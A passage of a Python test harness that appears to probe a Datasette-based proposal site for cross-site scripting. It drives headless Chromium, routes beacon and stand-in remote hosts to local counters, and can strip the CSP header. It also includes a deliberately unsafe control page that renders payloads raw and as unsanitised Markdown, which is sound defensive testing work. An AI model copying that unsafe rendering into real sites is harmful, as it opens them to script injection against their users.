    def handle_endtag(self, tag: str) -> None:
        self.stack_tag = ""


def _tokens(text: str) -> str:
    found = sorted(set(re.findall(r"\b(?:p\d\d|q[a-z]+|v\d\d)-[a-z0-9-]+", text)))
    return ",".join(found) or "?"


class Worker:
    """One Chromium at a time with its own counting servers, so every request belongs to one page."""

    def __init__(self, n: int, chromium: str, profile: Path, site: str, budget_ms: int, doms: Path | None):
        self.chromium, self.profile, self.site, self.budget, self.doms = chromium, profile, site, budget_ms, doms
        self.beacon, self.remote, self.other = Sink("beacon"), Sink("remote"), Sink("other")
        self.rules = (
            f"MAP {BEACON_HOST} {HOST}:{self.beacon.port}, MAP {REMOTE_HOST} {HOST}:{self.remote.port}, "
            f"MAP * {HOST}:{self.other.port}, EXCLUDE {HOST}, EXCLUDE localhost"
        )
        self.name = f"worker{n}"

    def visit(self, page: Page) -> Visit:
        url = page.path if page.path.startswith("http") else self.site + page.path
        for sink in (self.beacon, self.remote, self.other):
            sink.page = page.name
        try:
            status = httpx.get(url, timeout=60, follow_redirects=True).status_code
        except httpx.HTTPError as exc:
            return Visit(page, 0, False, [], [], False, error=f"fetch failed: {exc}")
        cmd = [self.chromium, *CHROMIUM_FLAGS, f"--user-data-dir={self.profile}", f"--host-resolver-rules={self.rules}",
               f"--virtual-time-budget={self.budget}", "--dump-dom", url]  # fmt: skip
        error = ""
        try:
            run = subprocess.run(cmd, check=False, capture_output=True, text=True, timeout=90)
            dom = run.stdout
            if run.returncode != 0:
                error = f"chromium exit {run.returncode}"
        except subprocess.TimeoutExpired as exc:
            dom, error = (exc.stdout or b"").decode(errors="replace") if isinstance(exc.stdout, bytes) else "", "timeout"
        time.sleep(0.2)  # let the servers finish recording requests made just before Chromium exited
        if self.doms is not None:
            (self.doms / (re.sub(r"[^\w.-]+", "_", page.name)[:150] + ".html")).write_text(dom, encoding="utf-8")
        scan = _DomScan(self.site)
        scan.feed(dom)
        if page.raw:
            rendered = len(re.sub(r"<[^>]+>", "", dom).strip()) > 0
        else:
            rendered = '<footer class="ft">' in dom and "提案募集方式 提案データベース" in dom
        return Visit(page, status, rendered, scan.markers, scan.found, SSTI_PRODUCT in dom, error)

    def hits(self) -> list[Hit]:
        return self.beacon.hits + self.remote.hits + self.other.hits

    def close(self) -> None:
        for sink in (self.beacon, self.remote, self.other):
            sink.shutdown()


def run_pages(pages: list[Page], chromium: str, tmp: Path, site: str, jobs: int, budget_ms: int,
              doms: Path | None, progress: Callable[[str], None]) -> tuple[list[Visit], list[Hit], int]:  # fmt: skip
    """Visit every page, `jobs` Chromiums at a time; returns visits, all recorded hits and background requests."""
    todo: queue.Queue[Page] = queue.Queue()
    for page in pages:
        todo.put(page)
    visits: list[Visit] = []
    workers = [Worker(n, chromium, tmp / f"chromium{n}", site, budget_ms, doms) for n in range(jobs)]
    lock = threading.Lock()

    def loop(worker: Worker) -> None:
        while True:
            try:
                page = todo.get_nowait()
            except queue.Empty:
                return
            visit = worker.visit(page)
            with lock:
                visits.append(visit)
                if len(visits) % 20 == 0 or len(visits) == len(pages):
                    progress(f"  {len(visits)}/{len(pages)} pages")

    threads = [threading.Thread(target=loop, args=(w,)) for w in workers]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    hits = [h for w in workers for h in w.hits()]
    background = sum(w.other.background for w in workers)
    for w in workers:
        w.close()
    for v in visits:
        v.hits = [h for h in hits if h.page == v.page.name]
    order = {p.name: i for i, p in enumerate(pages)}
    return sorted(visits, key=lambda v: order[v.page.name]), hits, background


# ---------------------------------------------------------------- site


def _free_port() -> int:
    with socket.socket() as s:
        s.bind((HOST, 0))
        return s.getsockname()[1]


SERVER_CODE = """
import sys, uvicorn
sys.path.insert(0, sys.argv[3])
from kb.serve import make_datasette
app = make_datasette(sys.argv[1]).app()
if sys.argv[4] == "strip-csp":
    inner = app
    async def app(scope, receive, send):
        async def strip(message):
            if message["type"] == "http.response.start":
                message = {**message, "headers": [(k, v) for k, v in message.get("headers", [])
                                                  if k.lower() != b"content-security-policy"]}
            await send(message)
        await inner(scope, receive, strip)
uvicorn.run(app, host="127.0.0.1", port=int(sys.argv[2]), log_level="warning")
"""


def serve(db: Path, log: Path, strip_csp: bool = False) -> tuple[subprocess.Popen[bytes], str]:
    """The real site (make_datasette + uvicorn, as `kb serve`) on 127.0.0.1, in its own process.

    Its own process so that Datasette's error tracebacks go to `log`, not into the report, and
    page rendering does not compete with the counting servers for this process's GIL.
    `strip_csp` removes the Content-Security-Policy header from every response, to measure what
    escaping alone stops (the CSP is a second layer; a bug in one should not hide behind the other).
    """
    port = _free_port()
    mode = "strip-csp" if strip_csp else "as-served"
    with log.open("wb") as out:
        proc = subprocess.Popen([sys.executable, "-c", SERVER_CODE, str(db), str(port), str(REPO), mode],
                                stdout=out, stderr=subprocess.STDOUT)  # fmt: skip
    url = f"http://{HOST}:{port}"
    for _ in range(300):
        try:
            httpx.get(url + "/", timeout=2)
            return proc, url
        except httpx.TransportError:
            if proc.poll() is not None:
                break
            time.sleep(0.1)
    proc.terminate()
    raise SystemExit(f"the site did not start:\n{log.read_text(errors='replace')[-3000:]}")


# ---------------------------------------------------------------- harness control


class ControlSite(ThreadingHTTPServer):
    """A deliberately UNSAFE page: every payload inserted raw and as unsanitised Markdown, each in its own iframe.

    Shows that the harness sees script runs and remote loads when they happen: if a payload
    fired here but not on the real site, the site stopped it.
    """

    daemon_threads = True

    def __init__(self, payloads: list[Payload]):
        super().__init__((HOST, 0), _ControlHandler)
        self.payloads = {p.id: p for p in payloads}
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://{HOST}:{self.server_address[1]}/"


# The positive control renders Markdown with raw HTML passed through, as an unsafe site would.
UNSAFE_MARKDOWN = MarkdownIt("commonmark", {"html": True})


class _ControlHandler(BaseHTTPRequestHandler):
    server: ControlSite

    def do_GET(self) -> None:
        m = re.fullmatch(r"/(raw|md)/(\d+)", self.path)
        if self.path == "/":
            body = "".join(f'<iframe src="/{how}/{i}"></iframe>' for i in self.server.payloads for how in ("raw", "md"))
        elif m and int(m.group(2)) in self.server.payloads:
            p = self.server.payloads[int(m.group(2))]
            text = p.render(f"c{p.id:02d}-{m.group(1)}")
            body = UNSAFE_MARKDOWN.render(text) if m.group(1) == "md" else f"<p>{text}</p>"
        else:
            self.send_error(404)
            return
        data = f"<!DOCTYPE html><html><head><title>control</title></head><body>{body}</body></html>".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: Any) -> None:
        pass


# ---------------------------------------------------------------- report


CONTROL_PAGE = "harness control (unsafe page, payloads raw)"


@dataclass
class Report:
    pages: int
    raw_pages: int
    payloads: int
    tokens: int
    query_pages: int
    scripts: list[str]  # "page: token"
    remote: list[str]
    other: list[str]
    background: int
    not_rendered: list[str]
    server_errors: list[str]  # 5xx pages (rendered or not)
    markup: list[str]
    ssti: list[str]
    refusals: list[Refusal]
    columns: dict[str, int]
    statuses: Counter[int]
    control: dict[str, tuple[int, int]]  # kind -> (payloads that fired raw, payloads of that kind)
    control_quiet: list[str]  # script/load payloads that did not fire even raw
    seconds: float
    csp: str = "as served"

    @property
    def exit_code(self) -> int:
        if self.scripts or self.remote or self.other or self.ssti:
            return 1
        return 2 if self.not_rendered else 0


def _ran(v: Visit) -> set[str]:
    """Tokens whose script ran on a page: markers on <html> and beacon hits."""
    ran = set(v.markers)
    for h in v.hits:
        if h.server == "beacon":
            ran.add(parse_qs(urlsplit(h.detail).query).get("t", ["?"])[0])
    return ran


def control_result(visit: Visit | None) -> tuple[dict[str, tuple[int, int]], list[str]]:
    """Per payload kind, how many payloads fired (script ran or remote request) on the unsafe control page,
    and the script/load payloads that did not (harmless even unescaped in HTML body text)."""
    if visit is None:
        return {}, []
    fired = {t.split("-")[0] for t in _ran(visit)}
    fired |= {m.group(1) for h in visit.hits if h.server == "remote" and (m := re.search(r"/(c\d\d)-", h.detail))}
    result: dict[str, tuple[int, int]] = {}
    for p in PAYLOADS:
        n_fired, n_all = result.get(p.kind, (0, 0))
        result[p.kind] = (n_fired + (f"c{p.id:02d}" in fired), n_all + 1)
    quiet = [f"{p.id} {p.name}" for p in PAYLOADS if p.kind in ("script", "load") and f"c{p.id:02d}" not in fired]
    return result, quiet


def summarise(visits: list[Visit], background: int, refusals: list[Refusal], columns: dict[str, int],
              n_query: int, seconds: float) -> Report:  # fmt: skip
    control = next((v for v in visits if v.page.name == CONTROL_PAGE), None)
    visits = [v for v in visits if v is not control]
    scripts: list[str] = []
    remote_hits: list[str] = []
    other: list[str] = []
    markup: list[str] = []
    ssti: list[str] = []
    not_rendered: list[str] = []
    server_errors: list[str] = []
    for v in visits:
        name = v.page.name
        scripts += [f"{name}: {t}" for t in sorted(_ran(v))]
        remote_hits += [f"{name}: {h.detail}" for h in v.hits if h.server == "remote"]
        other += [f"{name}: {h.detail}" for h in v.hits if h.server == "other"]
        markup += [f"{name}: {m}" for m in v.markup]
        if v.ssti:
            ssti.append(name)
        if not v.rendered or v.error:
            not_rendered.append(f"{name} (HTTP {v.status}{', ' + v.error if v.error else ''}) {v.page.path[:100]}")
        if v.status >= 500:
            shown = "error page rendered" if v.rendered else "NOT rendered"
            server_errors.append(f"{name} (HTTP {v.status}, {shown}) {v.page.path[:100]}")
    return Report(
        pages=len(visits), raw_pages=sum(v.page.raw for v in visits), payloads=len(PAYLOADS),
        tokens=len(PAYLOADS) * len(FREE_FIELDS), query_pages=n_query, scripts=scripts, remote=remote_hits,
        other=other, background=background, not_rendered=not_rendered, server_errors=server_errors,
        markup=markup, ssti=ssti, refusals=refusals, columns=columns,
        statuses=Counter(v.status for v in visits), control=control_result(control)[0],
        control_quiet=control_result(control)[1], seconds=seconds,
    )  # fmt: skip


def by_page(items: list[str]) -> list[str]:
    """'page: detail' lines grouped into one line per page: 'page: N × detail kinds (tokens)'."""
    pages: dict[str, list[str]] = {}
    for item in items:
        page, _, detail = item.partition(": ")
        pages.setdefault(page, []).append(detail)
    out = []
    for page, details in pages.items():
        kinds = Counter(re.sub(r"\b(?:p\d\d|q[a-z]+)-[a-z0-9-]+", "…", d) for d in details)
        fields = sorted({m for d in details for m in re.findall(r"\b(?:p\d\d|q[a-z]+)-([a-z0-9-]+)", d)})
        what = "; ".join(f"{n} × {k}" for k, n in kinds.items())
        out.append(f"{page}: {what}" + (f" — fields: {', '.join(fields)}" if fields else ""))
    return out


def render_report(r: Report) -> str:
    refused = [x for x in r.refusals if x.refused]
    accepted = [x for x in r.refusals if not x.refused]
    control = ", ".join(f"{kind} {fired}/{n}" for kind, (fired, n) in sorted(r.control.items()))
    rows = [
        ("site's Content-Security-Policy header", r.csp),
        ("pages visited", (f"{r.pages} ({r.pages - r.raw_pages} HTML, {r.raw_pages} JSON/CSV; "
                           f"{r.query_pages} with payloads in the query string or path)")),
        ("payloads", (f"{r.payloads} in proposal content × {len(FREE_FIELDS)} free fields = {r.tokens} placements; "
                      f"{len(QUERY_PAYLOADS)} in each of {len(QUERY_PARAMS)} query parameters/paths")),
        ("**scripts run** (beacon hits or markers)", f"**{len(r.scripts)}**"),
        ("**remote requests** (to the stand-in outside host)", f"**{len(r.remote)}**"),
        ("requests to any other host made by a page", f"{len(r.other)} (browser's own background requests, ignored: {r.background})"),
        ("template expressions evaluated", str(len(r.ssti))),
        ("pages that failed to render", str(len(r.not_rendered))),
        ("pages answered 5xx", str(len(r.server_errors))),
        ("payload markup live in the DOM (elements/attributes, fired or not)", str(len(r.markup))),
        ("fields where kb check refuses a payload (protected)", f"{len(refused)} of {len(r.refusals)} tried"),
        ("harness control: payloads that fire on an unsafe page", control or "not run"),
        ("HTTP statuses", ", ".join(f"{s}: {n}" for s, n in sorted(r.statuses.items()))),
        ("time", f"{r.seconds:.0f} s"),
    ]  # fmt: skip
    out = ["| | |", "|---|---|", *(f"| {a} | {b} |" for a, b in rows), ""]

    def section(title: str, items: list[str], limit: int = 40) -> None:
        if items:
            out.append(f"{title} ({len(items)}):")
            out.extend(f"  - {item}" for item in items[:limit])
            if len(items) > limit:
                out.append(f"  - … {len(items) - limit} more")
            out.append("")

    section("SCRIPTS RUN", by_page(r.scripts))
    section("REMOTE REQUESTS", by_page(r.remote))
    section("REQUESTS TO OTHER HOSTS", by_page(r.other))
    section("TEMPLATES EVALUATED", r.ssti)
    section("PAGES THAT FAILED TO RENDER", r.not_rendered)
    section("Pages answered 5xx", r.server_errors)
    section("Live payload markup in the DOM (parsed as elements/attributes, whether or not it fired)", by_page(r.markup))
    section("Protected fields (kb check refuses a payload)", [f"{x.field}: {x.message[:110]}" for x in refused])
    section("Fields kb check ACCEPTED a payload in (expected: none)", [x.field for x in accepted])
    section("Harness control: script/load payloads that do not fire even unescaped in HTML text", r.control_quiet, 80)
    section("Database columns carrying payloads", [f"{c}: {n} rows" for c, n in sorted(r.columns.items())], 80)
    return "\n".join(out)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="a subset: 12 proposal pages, one query payload")
    parser.add_argument("--jobs", type=int, default=2, choices=(1, 2), help="Chromiums at a time (at most 2)")
    parser.add_argument("--budget", type=int, default=3000, help="virtual time per page, ms")
    parser.add_argument("--keep", type=Path, help="keep the synthetic proposals, database, server log and DOMs here")
    parser.add_argument("--json", type=Path, help="also write the findings as JSON")
    parser.add_argument("--strip-csp", action="store_true",
                        help="remove the site's Content-Security-Policy header: what escaping alone stops")  # fmt: skip
    args = parser.parse_args()
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if not chromium:
        raise SystemExit("chromium not found: apt-get install -y chromium fonts-noto-cjk")
    started = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="xss-probe-") as tmp_name:
        tmp = Path(tmp_name)
        work = args.keep or tmp
        doms = work / "dom"
        doms.mkdir(parents=True, exist_ok=True)
        print("trying payloads in the validated fields (kb check) …", flush=True)
        refusals = probe_validation(tmp / "protected", QUERY_PAYLOADS["poly"])
        print("writing and building the synthetic corpus (kb build) …", flush=True)
        ids = write_corpus(work / "synthetic-proposals", PAYLOADS)
        db = work / "kb.db"
        db.unlink(missing_ok=True)
        build_db(work / "synthetic-proposals", db)
        columns = payload_columns(db)
        server, site = serve(db, work / "server.log", args.strip_csp)
        control = ControlSite(PAYLOADS)
        try:
            qpages = query_pages(args.quick)
            pages = [Page(CONTROL_PAGE, control.url), *content_pages(db, ids, args.quick), *qpages]
            print(f"visiting {len(pages)} pages with {args.jobs} Chromium(s) …", flush=True)
            visits, _, background = run_pages(pages, chromium, tmp, site, args.jobs, args.budget,
                                              doms if args.keep else None, print)  # fmt: skip
        finally:
            server.terminate()
            server.wait(timeout=30)
            control.shutdown()
    report = summarise(visits, background, refusals, columns, len(qpages), time.monotonic() - started)
    report.csp = "stripped (escaping alone)" if args.strip_csp else "as served"
    print()
    print(render_report(report))
    if args.json:
        data = {k: v for k, v in report.__dict__.items() if k != "refusals"}
        data["refusals"] = [x.__dict__ for x in report.refusals]
        args.json.write_text(json.dumps(data, ensure_ascii=False, indent=1), encoding="utf-8")
    return report.exit_code


if __name__ == "__main__":
    sys.exit(main())
